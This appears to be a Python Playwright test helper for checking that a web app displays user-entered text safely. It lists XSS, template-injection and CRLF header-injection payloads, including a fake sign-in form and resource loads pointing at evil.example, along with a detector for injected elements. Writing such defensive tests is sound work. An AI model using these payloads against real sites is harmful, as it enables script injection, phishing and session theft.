"""Texts that would do harm if any page took them for more than text.

Each carries the id or class `boo` where it can, so that an element made of one is found, and calls
`boo()`, which no page has, so that whatever runs is an error in the page.
"""

from playwright.sync_api import Page

SHORT = (  # each fits where the shortest texts go: names, 80 characters
    "<script>boo()</script>",
    '"><script class=boo>boo()</script>',
    "'><img class=boo src=x onerror=boo()>",
    "<svg class=boo onload=boo()>",
    '" autofocus onfocus="boo()" class="boo',
    "' onmouseover='boo()' class='boo",
    "javascript:boo()",
    "<a class=boo href=javascript:boo()>go</a>",
    "</title><script class=boo>boo()</script>",
    "</textarea><b class=boo>boo</b>",
    "--><!-- <b class=boo>boo</b>",
    "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "{{ person.access_token }}",
    "<iframe class=boo srcdoc='<script>boo()</script>'>",
    "<math class=boo><mi xlink:href='data:x,<script>boo()</script>'>",
    "<style class=boo>*{display:none}</style>",
    "<base class=boo href=//evil.example/>",
    "<meta class=boo http-equiv=refresh content=0;url=/help>",
    "&lt;script&gt;boo()&lt;/script&gt;&#60;b&#62;",
    "%3Cscript%3Eboo()%3C/script%3E",
    "＜script＞boo()＜/script＞ʺ＞",
    "\u05d9\u05de\u05d9\u05df left \u200bzero\u200dwidth\ufeff",
    "Z\u0351\u036b\u0313a\u0329l\u0348\u0347g\u0328o\u0322 👩‍👩‍👧 𝕳𝖎",
    "W" * 80,
)
LONG = (
    *SHORT,
    "<svg><animate class=boo onbegin=boo() attributeName=x dur=1s></svg>",
    "<details class=boo open ontoggle=boo()>",
    "<form class=boo action=//evil.example><input name=password><button>Sign in</button></form>",
    "<img class=boo srcset='//evil.example/x.png 1x'>",
    "<link class=boo rel=stylesheet href=//evil.example/x.css>",
    "<object class=boo data=javascript:boo()></object><embed class=boo src=javascript:boo()>",
    "<noscript><p title='</noscript><img class=boo src=x onerror=boo()>'>",
    "[boo](javascript:boo()) ![boo](//evil.example/x.png) <javascript:boo()>",
    "%0d%0aSet-Cookie: session=boo\\r\\nLocation: //evil.example",
    "W" * 400,
)
HARM = """
() => [...document.querySelectorAll(".boo")].concat(
    [...document.querySelectorAll("[href], [src], [action], [formaction]")].filter((each) =>
      /^\\s*(javascript|data|vbscript):|evil\\.example/i.test(
        each.getAttribute("href") ?? each.getAttribute("src") ?? each.getAttribute("action") ?? "")),
    [...document.querySelectorAll("*")].filter((each) =>
      [...each.attributes].some((attribute) => attribute.name.startsWith("on"))),
  ).map((each) => each.outerHTML.slice(0, 200))
"""


def text_of_at_most(characters: int) -> str:
    """As many of the texts as fit, one a line, the last ones first: they are not tried elsewhere."""
    chosen: list[str] = []
    for text in reversed(LONG):
        if sum(map(len, chosen)) + len(chosen) + len(text) <= characters:
            chosen.append(text)
    return "\n".join(chosen)


def assert_harmless(page: Page) -> None:
    """Nothing on the page was made of a text. (What ran, asked elsewhere or opened, visitors tell.)"""
    harm = page.evaluate(HARM)
    assert not harm, f"{page.url}: {harm}"


def assert_shown(page: Page, *texts: str) -> None:
    """Each text is on the page as it was typed."""
    missing = set(texts) - texts_on(page, *texts)
    assert not missing, f"{page.url} lacks {missing}"


def texts_on(page: Page, *texts: str) -> set[str]:
    """Those that are on the page as they were typed."""
    shown = page.locator("body").text_content() or ""
    return {text for text in texts if text in shown}
